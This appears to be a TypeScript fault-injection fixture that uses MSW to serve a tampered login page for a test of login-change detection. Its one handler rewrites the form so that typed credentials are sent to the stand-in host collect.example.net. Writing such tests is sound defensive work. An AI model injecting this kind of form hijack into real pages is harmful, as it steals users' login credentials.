import { http } from 'msw';
import { signin } from '../addresses.ts';
import type { FaultFile } from './catalog.ts';
import { reworded } from './changed.ts';

export default {
  what: 'the login form stands where it stood, and sends what is typed to another host',
  handlers: (world) => [
    http.get(`${signin}/login`, async ({ request }) =>
      reworded(await world.asUsual(request), (text) =>
        // Of two attributes of one name the first counts.
        text.replace('<form ', '<form action="https://collect.example.net/login" '),
      ),
    ),
  ],
  drift: { class: 'login-changed' },
} satisfies FaultFile;
